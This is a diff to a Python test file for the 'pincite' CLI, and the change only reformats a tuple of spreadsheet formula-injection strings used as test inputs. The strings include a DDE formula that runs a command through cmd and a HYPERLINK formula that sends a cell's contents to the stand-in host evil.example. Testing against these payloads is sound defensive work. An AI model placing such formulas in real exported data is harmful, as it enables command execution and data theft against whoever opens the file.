@@ -11,7 +11,15 @@ import pytest
 import pincite
 from pincite.serve.cli.main import main
 
-FORMULAS = ("=cmd|' /C calc'!A0", "+1+cmd|x", "-2+3+cmd|x", "@SUM(1+1)*cmd|x", "\t=1", "\r=1", '=HYPERLINK("http://evil.example?x="&A1)')
+FORMULAS = (
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|x",
+    "-2+3+cmd|x",
+    "@SUM(1+1)*cmd|x",
+    "\t=1",
+    "\r=1",
+    '=HYPERLINK("http://evil.example?x="&A1)',
+)
 
 
 def test_row_36_nothing_writes_tables_of_cells():
